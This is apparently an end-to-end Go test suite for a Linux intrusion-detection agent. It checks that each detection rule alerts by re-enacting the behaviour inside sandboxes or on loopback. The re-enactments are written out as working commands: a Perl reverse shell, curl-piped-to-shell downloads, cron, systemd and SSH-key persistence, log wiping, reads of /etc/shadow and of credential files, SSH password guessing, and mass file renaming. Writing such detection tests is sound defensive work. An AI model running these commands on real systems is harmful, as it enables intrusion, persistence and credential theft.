package e2e

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// behaviours shows, for each shipped rule, what the rule names. Nothing of the machine's own
// is changed: what would be written below /etc, /var and /root is written in a mount
// namespace where these are empty.
func behaviours() map[string]func(*testing.T) {
	return map[string]func(*testing.T){
		"shell_over_dev_tcp":          func(t *testing.T) { reverseShell(t) },
		"shell_wired_to_network":      perlShell,
		"program_from_memory":         memoryProgram,
		"program_deletes_itself":      selfDeletion,
		"program_in_shared_memory":    sharedMemory,
		"cron_entry_written":          secluded("mkdir /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/updates"),
		"systemd_unit_written":        secluded("mkdir -p /etc/systemd/system; echo '[Service]' > /etc/systemd/system/updates.service"),
		"ssh_key_added":               secluded("mkdir /root/.ssh; echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
		"preload_library_set":         secluded(": > /etc/ld.so.preload"),
		"loader_runs_program":         loaderRuns,
		"kernel_module_by_hand":       loadModule,
		"module_loading_configured":   secluded("mkdir /etc/modules-load.d; echo rootkit > /etc/modules-load.d/net.conf"),
		"logs_tampered":               secluded("echo 'sshd: accepted' > /var/log/auth.log; : > /var/log/auth.log"),
		"shell_history_erased":        secluded("echo id > /root/.bash_history; rm /root/.bash_history"),
		"password_database_read":      func(t *testing.T) { command(t, "cat", "/etc/shadow") },
		"secrets_collected":           collectSecrets,
		"setuid_program_in_odd_place": secluded("cp /bin/true /var/tmp/helper; chmod 4755 /var/tmp/helper; setpriv --reuid=65534 --clear-groups /var/tmp/helper"),
		"shell_with_borrowed_rights":  secluded("cp /usr/bin/env /var/tmp/env; chmod 4755 /var/tmp/env; setpriv --reuid=65534 --clear-groups /var/tmp/env sh -p -c 'true; true'"),
		"ssh_guessed_password":        guessPassword,
		"web_server_starts_shell":     webShell,
		"coin_miner":                  mine,
		"files_get_new_extension":     perlFiles(`rename($_, "$_.locked")`),
		"documents_rewritten":         perlFiles(`open(F, "+<", $_); print F "x"; close F`),
		"download_was_run":            downloadAndRun,
		"download_into_shell":         downloadIntoShell,
		"io_uring_by_odd_program":     func(t *testing.T) { command(t, "perl", "-e", `my $p = "\0" x 256; syscall(425, 4, $p)`) },
		"kernel_helper_changed":       func(t *testing.T) { command(t, "sh", "-c", ": >> /proc/sys/kernel/core_pattern; true") }, // opened, nothing written
		"namespaces_of_init_entered":  func(t *testing.T) { command(t, "sh", "-c", "nsenter --target 1 --mount -- true; true") }, // some machines refuse it
		"discovery_burst": func(t *testing.T) {
			command(t, "sh", "-c", "id; whoami; uname -a; hostname; who; last -n 1; ps ax; ss -tn; ip addr; true")
		},
	}
}

// shownElsewhere names the tests that show what needs more than this host as it is.
var shownElsewhere = map[string]string{
	"malware_found_by_scan": "TestAScanFindsReportsAndTakes", // in a mount namespace: a scan looks at the whole device
}

// TestEachRuleFires shows every behaviour under a real agent and expects the alert of its rule.
func TestEachRuleFires(t *testing.T) {
	rules := shippedRules(t)
	shown := behaviours()
	for _, r := range rules {
		if shown[r.name] == nil && shownElsewhere[r.name] == "" {
			t.Errorf("nothing shows what the rule %s names", r.name)
		}
	}
	s := startServer(t)
	startAgent(t, s, "")
	s.onlyDevice(t)
	began := time.Now()
	want := map[string]bool{}
	for _, r := range rules {
		f := shown[r.name]
		if f == nil {
			continue
		}
		if _, err := os.Stat("/proc/modules"); r.name == "kernel_module_by_hand" && err != nil {
			t.Log("this kernel is built without modules: nobody can try to load one, and the rule has nothing to see")
			continue
		}
		if t.Run(r.name, f) {
			want[r.name] = true
		}
	}
	own, fired := family{}, map[string]int{}
	await(t, "an alert of every rule", func() error {
		own = s.family(t, began)
		clear(fired)
		for _, a := range s.alerts(t) {
			if own.did(&a) {
				fired[ruleOf(rules, a.Title)]++
			}
		}
		var missing []string
		for name := range want {
			if fired[name] == 0 {
				missing = append(missing, name)
			}
		}
		if len(missing) > 0 {
			return fmt.Errorf("nothing of %s; %d rules fired: %v", strings.Join(missing, ", "), len(fired), fired)
		}
		return nil
	})
	t.Logf("%d of %d rules fired for what was shown: %v", len(want), len(rules), fired)
}

// secluded returns a behaviour that a shell shows in a mount namespace of its own, in which
// /etc, /root, /var/log, /var/spool and /var/tmp are empty.
func secluded(script string) func(*testing.T) {
	return func(t *testing.T) {
		t.Helper()
		command(t, "unshare", "--mount", "--propagation", "private", "sh", "-ec",
			"for d in /etc /root /var/log /var/spool /var/tmp; do mount -t tmpfs -o suid,exec tmpfs $d; done\n"+script)
	}
}

// program copies a program of the system under another name.
func program(t *testing.T, from, to string) {
	t.Helper()
	path, err := exec.LookPath(from)
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o755); err != nil {
		t.Fatal(err)
	}
}

// controller listens on loopback for a shell that connects, and tells it to exit.
func controller(t *testing.T) (port int, wait func()) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() {
		defer l.Close()
		c, err := l.Accept()
		if err == nil {
			_, err = fmt.Fprintln(c, "exit")
			defer c.Close()
		}
		done <- err
	}()
	return l.Addr().(*net.TCPAddr).Port, func() {
		t.Helper()
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

func perlShell(t *testing.T) {
	port, wait := controller(t)
	out, err := exec.Command("perl", "-e", `use Socket; socket(S, PF_INET, SOCK_STREAM, 6) && connect(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) || die;
		open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec "/bin/sh", "-i"`, fmt.Sprint(port)).CombinedOutput()
	if err != nil {
		t.Logf("the shell ended with %v: %s", err, out)
	}
	wait()
}

func memoryProgram(t *testing.T) {
	b, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	fd, err := unix.MemfdCreate("update", unix.MFD_CLOEXEC)
	if err != nil {
		t.Fatal(err)
	}
	f := os.NewFile(uintptr(fd), "update")
	defer f.Close()
	if _, err := f.Write(b); err != nil {
		t.Fatal(err)
	}
	command(t, fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd))
}

func selfDeletion(t *testing.T) {
	file := filepath.Join(t.TempDir(), "helper")
	program(t, "rm", file)
	command(t, file, file)
}

func sharedMemory(t *testing.T) {
	file := filepath.Join("/dev/shm", unique("vedette-"))
	t.Cleanup(func() { os.Remove(file) })
	program(t, "true", file)
	command(t, file)
}

// loaderRuns has the dynamic loader run a program that nobody may execute.
func loaderRuns(t *testing.T) {
	file := filepath.Join(t.TempDir(), "notes.txt")
	program(t, "true", file)
	if err := os.Chmod(file, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, pattern := range []string{"/lib64/ld-linux-*.so.*", "/lib/ld-linux-*.so.*", "/lib/ld-musl-*.so.*"} {
		if found, _ := filepath.Glob(pattern); len(found) > 0 {
			command(t, found[0], file)
			return
		}
	}
	t.Fatal("there is no dynamic loader in /lib64 and /lib")
}

// loadModule gives the kernel a file that is none of its modules.
func loadModule(t *testing.T) {
	f, err := os.Create(filepath.Join(t.TempDir(), "rootkit.ko"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := unix.FinitModule(int(f.Fd()), "", 0); err == nil {
		t.Fatal("the kernel took an empty module")
	}
}

func collectSecrets(t *testing.T) {
	home := t.TempDir()
	var files []string
	for _, name := range []string{".ssh/id_rsa", ".aws/credentials", ".netrc"} {
		file := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte("secret\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		files = append(files, "cat "+file)
	}
	command(t, "sh", "-c", strings.Join(files, "; ")+"; true")
}

// guessPassword fails to log on by ssh until the password is right.
func guessPassword(t *testing.T) {
	user := newUser(t)
	right := unique("right-")
	set := exec.Command("chpasswd")
	set.Stdin = strings.NewReader(user.name + ":" + right + "\n")
	if out, err := set.CombinedOutput(); err != nil {
		t.Fatalf("chpasswd: %v: %s", err, out)
	}
	port := startSSHD(t, user, "PasswordAuthentication yes", "MaxStartups 100")
	dir := t.TempDir()
	try := func(password string) error {
		ask := filepath.Join(dir, password)
		if err := os.WriteFile(ask, []byte("#!/bin/sh\necho "+password+"\n"), 0o700); err != nil {
			t.Error(err)
		}
		cmd := exec.Command("ssh", "-F", "none", "-p", fmt.Sprint(port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", user.name+"@127.0.0.1", "true")
		cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force")
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true} // an old ssh asks a terminal if it has one
		out, err := cmd.CombinedOutput()
		if err != nil {
			return fmt.Errorf("%w: %s", err, bytes.TrimSpace(out))
		}
		return nil
	}
	var wg sync.WaitGroup
	for i := range 7 {
		wg.Go(func() {
			if try(fmt.Sprintf("wrong-%d", i)) == nil {
				t.Error("a wrong password was taken")
			}
		})
	}
	wg.Wait()
	if err := try(right); err != nil {
		t.Errorf("the right password was refused: %v", err)
	}
}

// webShell has a program that bears a web server's name run a command by a shell.
func webShell(t *testing.T) {
	server := filepath.Join(t.TempDir(), "nginx")
	program(t, "perl", server)
	command(t, server, "-e", `system("id; true")`)
}

func mine(t *testing.T) {
	file := filepath.Join(t.TempDir(), "kswapd9")
	program(t, "true", file)
	command(t, file, "-o", "stratum+tcp://pool.invalid:3333", "-u", "wallet")
}

// perlFiles has one process do something to each of many documents.
func perlFiles(each string) func(*testing.T) {
	return func(t *testing.T) {
		t.Helper()
		dir := t.TempDir()
		for i := range 70 {
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("report%d.docx", i)), []byte("text\n"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		command(t, "perl", "-e", "for (glob(\"$ARGV[0]/*\")) { "+each+" }", dir)
	}
}

// scriptServer answers everything with a script that does nothing.
func scriptServer(t *testing.T) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "#!/bin/sh\ntrue\n") }))
	t.Cleanup(srv.Close)
	return srv.URL
}

func downloadAndRun(t *testing.T) {
	command(t, "sh", "-ec", "cd $1; curl -s -o install $0; chmod +x install; ./install", scriptServer(t), t.TempDir())
}

func downloadIntoShell(t *testing.T) {
	command(t, "bash", "-c", "curl -s $0 | sh", scriptServer(t))
}
